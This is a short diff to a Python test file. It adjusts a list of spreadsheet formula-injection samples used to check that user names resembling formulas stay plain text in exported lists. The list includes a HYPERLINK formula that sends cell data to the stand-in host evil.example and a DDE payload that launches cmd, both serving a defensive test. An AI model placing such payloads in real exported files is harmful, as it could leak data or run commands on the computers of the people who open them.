@@ -105,7 +105,8 @@ def test_a_validly_signed_link_to_the_database_or_outside_is_refused(tmp_path: P
 
 # ----- item 5: formula injection -----------------------------------------------------------
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "=1+2", "+cmd|' /C calc'!A0", "@SUM(A1)"]
+# a name needs letters (the survey refuses «12345»), so each formula carries some
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', '=1+2+"Hoa"', "+cmd|' /C calc'!A0", "@SUM(A1)"]
 
 
 async def test_names_that_look_like_formulas_stay_text_in_every_list(service: ChatApp, tmp_path: Path) -> None:
